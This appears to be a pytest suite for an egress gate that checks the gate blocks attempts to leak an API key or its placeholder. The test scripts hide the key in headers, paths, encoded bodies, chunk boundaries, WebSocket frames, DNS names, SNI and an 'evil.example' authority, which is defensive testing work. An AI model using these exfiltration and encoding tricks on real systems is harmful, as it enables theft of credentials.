"""Secrets on their way to somebody else: the placeholder, or a value that the command came by, wherever it can be put.

P27 of the attack catalogue, as far as the scan promises to see (docs/scan.md). Each request carries the case's canary
behind the secret, so that the sink, which writes down heads, contents and frames, tells what got through.
"""

# ruff: noqa: N802

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from sluicegate.gate.vault import Held, Vault
from sluicegate.policy.model import Secret
from tests.adversarial.family import Case, Ran, check, inside, outside
from tests.conftest import TIERS
from tests.kernel.test_h2 import open_to
from tests.kernel.test_opened import NAME, house
from tests.kernel.twohouse import Client, Peer, Site2
from tests.world import World

VALUE = "sk-ant-api03-Zx81kQm2Lw93Rt77PqYc0aB"
CAPITALS = "AKIA7QXW2LK9ZV4ZC1XM"  # as a method may be written
KEPT = "tok_Vb52nHs8Gd06Wx41JkTe3u"  # of the environment, and of no policy
# Everything but the secret would let the requests through: only its place is wrong.
RULES = """\
version: 1
allow:
  - host: allowed.test
  - host: four.test
    methods: [GET, POST]
  - host: fronted.test
    inspect: false
  - host: "*.wild.test"
secrets:
  - {env: API_KEY, hosts: [allowed.test], methods: [GET, POST], header: x-api-key}
"""
BEGIN = """
import base64
KEY = os.environ["API_KEY"]
REAL, OTHER = bytes.fromhex(WORDS[0]).decode(), bytes.fromhex(WORDS[1]).decode()
URLS = (f"https://{OK}/", f"http://{OK}/")
def sent(*arguments):
    said = curl(*arguments)["out"].split()
    return [said[-1] if said[-1].isdigit() else said[-2], "rule: secret" in " ".join(said)]
"""
HIDING = '''
def ways(text):
    """Every encoding that the scan knows, as a body."""
    data = text.encode()
    yield "plain", data
    yield "reversed", data[::-1]
    yield "hex", data.hex().encode()
    yield "HEX", b"x" + data.hex().upper().encode()
    for more in range(3):
        yield f"base64 {more}", base64.b64encode(b"~" * more + data + b"more")
    yield "urlsafe", base64.urlsafe_b64encode(b"\\xff" + data)
    yield "lines", base64.encodebytes(data * 3)
    yield "percent", "".join(f"%{byte:02X}" for byte in data).encode()
    yield "twice", "".join(f"%25{byte:02x}" for byte in data).encode()
    yield "json", json.dumps("".join(f"\\\\u{byte:04x}" for byte in data)).encode()
    yield "mixed", "".join(c if n % 2 else f"\\\\x{ord(c):02x}" for n, c in enumerate(text)).encode()
'''
SCRIPTS = {
    "head": """
for url in (*URLS, f"https://four.test/"):
    for line in (f"x-other: {KEY} {TOK}", f"x-{KEY}: {TOK}", f"cookie: a={KEY}; b={TOK}", f"user-agent: {KEY}{TOK}",
                 f"x-api-key: {KEY} {TOK}", f"x-api-key: {KEY}{TOK}", f"referer: https://x/?q={KEY}&{TOK}"):
        say(line[:12], sent("-H", line, url))
    say("user", sent("-u", f"{KEY}:{TOK}", url), sent("-u", f"x:{KEY}{TOK}", url))
    say("twice", sent("-H", f"x-api-key: {KEY}", "-H", f"x-more: {KEY} {TOK}", url))
    say("the other", sent("-H", f"x-tok: {TOK}", "-H", f"authorization: Bearer {KEY}", url))
""",
    "path": """
for url in URLS:
    for path in (f"{KEY}/{TOK}", f"?a={KEY}&b={TOK}", f"?{KEY}={TOK}", f"a/..;/{KEY}/{TOK}",
                 "".join(f"%{ord(c):02x}" for c in KEY) + f"/{TOK}", f"{KEY[::-1]}/{TOK}",
                 base64.urlsafe_b64encode(KEY.encode()).decode() + f"/{TOK}", f"?q={KEY.encode().hex()}{TOK}"):
        say(path[:9], sent(url + path))
""",
    "odd": """
for url in URLS:
    say("odd", sent("-X", CAPITALS, f"{url}{TOK}"), sent("-H", f"x-capitals: {CAPITALS} {TOK}", url))
""",
    "content": HIDING
    + """
for url in (*URLS, "https://four.test/"):
    for name, data in ways(KEY):
        with open("/tmp/body", "wb") as file:
            file.write(data + b" " + TOK.encode())
        say(name, sent("--data-binary", "@/tmp/body", url))
""",
    "value": HIDING
    + """
for text in (REAL, OTHER):
    for name, data in ways(text):
        with open("/tmp/body", "wb") as file:
            file.write(data + b" " + TOK.encode())
        say(name, sent("--data-binary", "@/tmp/body", URLS[0]))
    say("head", sent("-H", f"x-api-key: {text}", "-H", f"x-tok: {TOK}", URLS[0]))
    say("path", sent(f"{URLS[0]}{text}/{TOK}"))
""",
    "borders": """
with socket.create_connection((OK, 80), 4) as drip:
    drip.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    size = len(KEY) + len(TOK)
    drip.sendall(f"POST /borders HTTP/1.1\\r\\nHost: {OK}\\r\\nContent-Length: {size}\\r\\n\\r\\n".encode())
    for char in KEY + TOK:
        if attempt(drip.sendall, char.encode()) is not None:
            break
    say("drip", str(attempt(drip.recv, 400)))
for size in (1, 2, 7, len(KEY) - 1, len(KEY) + 3):
    text = "x" * 5 + KEY + TOK
    pieces = [text[at:at + size] for at in range(0, len(text), size)]
    body = "".join(f"{len(piece):x}\\r\\n{piece}\\r\\n" for piece in pieces) + "0\\r\\n\\r\\n"
    head = f"POST /borders HTTP/1.1\\r\\nHost: {OK}\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n"
    say(size, tls(OK, head + body)["got"], tcp(OK, 80, head + body)["got"])
    say(size, tls(OK, f"{head[:-2]}Trailer: x\\r\\n\\r\\n0\\r\\nx: {KEY} {TOK}\\r\\n\\r\\n")["got"])
""",
    "frames": """
lines = (f"GET /ws HTTP/1.1", f"Host: {OK}", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
         "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "\\r\\n")
def frame(first, text, mask=bytes(4)):
    data = text.encode() if isinstance(text, str) else text
    plain = bytes(byte ^ mask[at % 4] for at, byte in enumerate(data))
    size = bytes([128 | len(data)]) if len(data) < 126 else bytes([254]) + struct.pack(">H", len(data))
    return bytes([first]) + size + mask + plain
ask, end = "\\r\\n".join(lines).encode(), frame(0x88, b"")
for data in (
    frame(0x81, KEY + TOK), frame(0x82, KEY + TOK, b"mask"), frame(0x01, KEY[:9]) + frame(0x80, KEY[9:] + TOK),
    frame(0x01, KEY[:9]) + frame(0x89, b"a ping between") + frame(0x80, KEY[9:] + TOK),
    frame(0x89, KEY + TOK), frame(0x8A, KEY + TOK), frame(0x88, b"\\x03\\xe8" + (KEY + TOK).encode()),
    b"".join(frame(0x81, c) for c in KEY + TOK), frame(0x81, base64.b64encode(KEY.encode()) + TOK.encode()),
):
    say(tls(OK, ask + data + end)["got"], tcp(OK, 80, ask + data + end)["got"])
ask = ask.replace(b"Host:", f"x: {KEY} {TOK}\\r\\nHost:".encode())
say("head", tls(OK, ask + end)["got"])
""",
    "elsewhere": """
own = ("-H", f"x-api-key: {KEY}", "-H", f"x-tok: {TOK}")
say("other host", sent(*own, "https://four.test/"))
say("clear", sent(*own, f"http://{OK}/"))
say("another method", sent(*own, "-X", "PUT", f"https://{OK}/"))
say("asked of a proxy", sent(*own, "-x", PX, f"http://{OK}/"))
say("in a tunnel", sent(*own, "-x", PX, "https://four.test/"))
say("HTTP/2", sent(*own, "--http2", "-H", f"x-other: {KEY}", f"https://{OK}/"))
""",
    "names": """
def dotted(text):
    return ".".join(text[at:at + 40] for at in range(0, len(text), 40))
def connected(name):
    with socket.create_connection((OK, 443), 4) as stream:
        context = ssl._create_unverified_context()
        with context.wrap_socket(stream, server_hostname=name) as secured:
            return secured.version()
for text in (KEY, REAL, OTHER):
    coded = base64.urlsafe_b64encode(b"user:" + text.encode()).decode().rstrip("=")
    for some in (text, text.lower(), text[::-1], text.encode().hex(), coded, coded.lower()):
        name = f"{dotted(some)}.{TOK}.wild.test"
        say("looked up", attempt(lambda: [entry[4][0] for entry in socket.getaddrinfo(name, 80)]),
            ask("203.0.113.53", name), ask("203.0.113.53", name, 16, over_tcp=True))
        say("Host", sent("-H", f"host: {name}", f"http://{OK}/{TOK}"))
        say("proxy", sent("-x", PX, f"http://{name}/{TOK}"), curl("-x", PX, f"https://{name}/{TOK}")["code"])
        say("socks", curl("--socks5-hostname", f"{PXH}:{PXP}", f"http://{name}/{TOK}")["code"])
        say("SNI", attempt(connected, name))
""",
}
SCRIPTS = {name: BEGIN + script for name, script in SCRIPTS.items()}
NAMED = ("looked up", "Host", "proxy", "socks", "SNI")
# What must go on: the use, and what no rule has the gate look into.
USED = {
    "use": BEGIN + 'say(KEY, sent("-H", f"x-api-key: {KEY}", f"{URLS[0]}{TOK}"))\n',
    "closed": BEGIN + 'say(KEY, sent("-H", f"x-any: {KEY}", f"https://{FRONTED}/{TOK}"))\n',
}
WORDS = f"WORDS = {[VALUE.encode().hex(), KEPT.encode().hex()]}\nCAPITALS = {CAPITALS!r}\n"
ALL = {name: WORDS + script for name, script in {**SCRIPTS, **USED}.items()}


@pytest.fixture(scope="module")
def leaks(world: World) -> Ran:
    return outside(world, ALL, env={"API_KEY": VALUE})


@pytest.fixture(scope="module", params=TIERS)
def ran(request: pytest.FixtureRequest, world: World) -> Ran:
    env = {**os.environ, "SSL_CERT_FILE": str(world.ca), "API_KEY": VALUE, "JOB_TOKEN": KEPT}
    env["ACCESS_KEY"] = CAPITALS
    return inside(world, request.param, ALL, RULES, env=env)


def words(case: Case) -> Iterator[tuple[str, list[object]]]:
    """Name and outcome of each request: its status, and whether the refusal was by the rule."""
    for name, *said in case.said:
        yield from ((name, one) for one in said)


@pytest.mark.parametrize("name", SCRIPTS)
def test_P27_nothing_of_it_reaches_anybody(ran: Ran, leaks: Ran, name: str) -> None:
    check(ran, leaks, name)


@pytest.mark.parametrize("name", ["head", "path", "odd", "content", "value", "elsewhere"])
def test_P27_whoever_asks_is_told(ran: Ran, name: str) -> None:
    wrong = [one for one in words(ran[name]) if one[1] != ["403", True]]
    # A path with dots between is refused as it stands, before anybody looks for secrets.
    assert not [one for one in wrong if not one[0].startswith("a/..;/")], wrong


def test_P27_borders_and_frames_are_none(ran: Ran) -> None:
    for _, *said in ran["borders"].said:
        assert not [one for one in said if "HTTP/1.1 200" in one], said
    for said in ran["frames"].said[:-1]:
        assert not [one for one in said if "sluicegate: refused: " not in one], said
        assert not [one for one in said if "API_KEY" not in one], said
    assert ran["frames"].said[-1][1].startswith("HTTP/1.1 403 ")


def test_P27_no_server_ever_had_the_value_or_the_placeholder(ran: Ran) -> None:
    """But where it belongs, and where the policy says that nobody looks."""
    placeholder = ran["use"].said[0][0]
    assert placeholder != VALUE
    served = [entry for entry in ran.log if VALUE in json.dumps(entry)]
    assert [entry["head"].split()[1] for entry in served] == [f"/{ran['use'].token}"]
    assert f"\r\nx-api-key: {VALUE}\r\n" in served[0]["head"]
    assert not [entry for entry in ran.log if KEPT in json.dumps(entry)]
    assert not [packet for packet in ran.packets if VALUE in packet["data"]]
    seen = [entry for entry in ran.log if placeholder in json.dumps(entry)]
    assert [entry["head"].split()[1] for entry in seen] == [f"/{ran['closed'].token}"]
    (closed,) = [
        flow for flow in ran.flows if "outcome" in flow and flow.get("sni") == "fronted.test"
    ]
    assert "opened" not in closed


def test_P27_each_is_an_alarm_on_record_without_the_text(ran: Ran) -> None:
    assert ran.run is not None
    denied = ran.denied(rule="secret")
    told = [
        one
        for name in ("head", "path", "content", "value", "elsewhere")
        for one in words(ran[name])
    ]
    assert len(denied) > len(told)
    paths = [flow for flow in denied if "is in the path" in flow["reason"]]
    assert paths
    assert {flow["path"] for flow in paths} == {"/[redacted]"}
    assert r"the placeholder of API\_KEY" in (ran.run.packet / "summary.md").read_text()
    lines = (ran.run.packet / "evidence.jsonl").read_text().splitlines()
    told = [flow for flow in ran.flows if flow["kind"] == "dns" and "secret" in str(flow)]
    assert sum('"severity":"high"' in line for line in lines) == len(denied) + len(told)
    texts = [ran["use"].said[0][0], VALUE, KEPT, CAPITALS]
    assert {flow["method"] for flow in denied if "is in the method" in flow["reason"]} == {
        "REDACTED"
    }
    texts += [text.encode().hex() for text in texts]
    for path in ran.run.packet.iterdir():
        shown = path.read_text("latin-1").lower().replace(".", "")
        for text in texts:
            assert text.lower() not in shown, path
            assert text.lower()[::-1] not in shown, path


def test_P27_no_question_with_it_left(ran: Ran, leaks: Ran) -> None:
    assert leaks.asked(leaks["names"].token)
    assert not ran.asked(ran["names"].token)


def test_P27_a_name_with_it_is_an_alarm_wherever_it_is_said(ran: Ran) -> None:
    said = {name: [one[1:] for one in ran["names"].said if one[0] == name] for name in NAMED}
    assert {len(some) for some in said.values()} == {18}
    assert {one[0].partition(" ")[0] for one in said["looked up"]} == {"gaierror"}
    assert {str(one[1:]) for one in said["looked up"]} == {"[[5, 0], [5, 0]]"}
    assert {str(one) for one in said["Host"]} == {"[['403', True]]"}
    assert {str(one) for one in said["proxy"]} == {"[['403', True], 56]"}
    assert {str(one) for one in said["socks"]} == {"[97]"}
    assert {one[0].partition(" ")[0] for one in said["SNI"]} == {"SSLError"}
    denied = [flow for flow in ran.denied(rule="secret") if " is in the name," in flow["reason"]]
    assert {flow["via"] for flow in denied} == {"direct", "absolute-form", "connect", "socks"}
    for claim in ("target", "sni", "host"):
        assert [flow for flow in denied if flow.get(claim) == "redacted.invalid"], claim
    whose = {flow["reason"].partition(" (")[0] for flow in denied}
    assert whose == {
        *("the placeholder of API_KEY", "the value of API_KEY", "the value of JOB_TOKEN")
    }
    groups = [
        group
        for flow in ran.flows
        if flow["kind"] == "dns"
        for group in flow["questions"]
        if group["reason"] == "secret"
    ]
    assert {group["secret"].partition(" (")[0] for group in groups} == whose
    assert {group["via"] for group in groups} == {"udp", "tcp"}
    assert {group["name"] for group in groups} == {"(redacted)"}


# HTTP/2 with real handshakes: the gate alone, both ends ours.

HELD, PLACEHOLDER = "sk-live-7Gq2Vw9Zt4Kd1Xp8", "sk-live-3Rb6Ny0Hc5Mf2Js7"
SECRET = Secret("API_KEY", ("env", "API_KEY"), (NAME,), (), "bearer")


def vault() -> Vault:
    return Vault((Held(SECRET, PLACEHOLDER, HELD),), {})


def test_P27_HTTP2_of_each_stream_by_itself(tmp_path: Path) -> None:
    site = Site2(tmp_path)
    with house(site, open_to(site), vault=vault(), secrets=(SECRET,)) as place:
        client = Client(place, site.server.port)
        bearer = ("authorization", f"Bearer {PLACEHOLDER}")
        assert client.get("/a", bearer) == (200, b"/a 0")
        status, said = client.get("/b", ("x-other", PLACEHOLDER))
        assert (status, b"placeholder of API_KEY (plain) is in the headers" in said) == (403, True)
        assert client.get(f"/{PLACEHOLDER}")[0] == 403
        content = client.ask("POST", "/c", b"x" * 9 + PLACEHOLDER.encode())
        status, said = client.answer(content)
        assert (status, b"is in the content" in said) == (403, True)
        assert client.get("/d", bearer) == (200, b"/d 0")
        place.gate.stop()
    sent = [fields for fields in site.fields if ("authorization", f"Bearer {HELD}") in fields]
    assert [dict(fields)[":path"] for fields in sent] == ["/a", "/d"]
    assert PLACEHOLDER not in str((site.fields, site.contents))
    messages = place.gate.notary.messages
    denied = [m for m in messages if m["flow"].get("rule") == "secret"]
    assert [(m["severity"], m["flow"]["path"]) for m in denied] == [
        *(("high", "/b"), ("high", "/[redacted]"), ("high", "/c"))
    ]
    assert not any(text in str(messages) for text in (HELD, PLACEHOLDER))


def test_P27_HTTP2_in_the_authority(tmp_path: Path) -> None:
    site = Site2(tmp_path)
    with house(site, open_to(site), vault=vault(), secrets=(SECRET,)) as place:
        client = Client(place, site.server.port)
        head = dict(client.head("GET", "/a"))
        head[":authority"] = f"{PLACEHOLDER}.evil.example"
        number = client.say(list(head.items()))
        client.wait(number)
        assert client.heads[number][-1][":status"] == "403"
        assert client.get("/b") == (200, b"/b 0")
        place.gate.stop()
    assert [dict(fields)[":path"] for fields in site.fields] == ["/b"]
    (denied,) = [m for m in place.gate.notary.messages if m["flow"].get("rule") == "secret"]
    assert (denied["flow"]["host"], denied["severity"]) == ("redacted.invalid", "high")
    assert PLACEHOLDER not in str(place.gate.notary.messages)


def test_P27_HTTP2_in_trailers_and_in_what_comes_back(tmp_path: Path) -> None:
    site = Site2(tmp_path)

    def behave(peer: Peer, number: int, head: dict[str, str]) -> bool:
        fields = [(":status", "200")]
        if head[":path"] == "/head":
            fields.append(("x-echo", head["authorization"]))
        peer.conn.send_headers(number, fields)
        peer.conn.send_data(number, head.get("authorization", "").encode(), end_stream=True)
        peer.flush()
        return True

    site.behave = behave
    with house(site, open_to(site), vault=vault(), secrets=(SECRET,)) as place:
        client = Client(place, site.server.port)
        number = client.say(client.head("POST", "/trailers"), end=False)
        client.conn.send_data(number, b"content")
        client.conn.send_headers(number, [("x-log", PLACEHOLDER)], end_stream=True)
        client.flush()
        client.wait(number)
        for path in ("/head", "/content"):
            asked = client.ask("GET", path, None, ("authorization", f"Bearer {PLACEHOLDER}"))
            client.wait(asked)
            assert HELD.encode() not in client.bodies.get(asked, b"")
        place.gate.stop()
    assert "/trailers" not in site.trailers
    assert HELD not in str((client.heads, client.bodies))
    messages = place.gate.notary.messages
    where = [m["flow"]["reason"] for m in messages if m["flow"].get("rule") == "secret"]
    assert [reason.rpartition(" is in ")[2].partition(",")[0] for reason in where] == [
        *("the content", "the response", "the response")
    ]
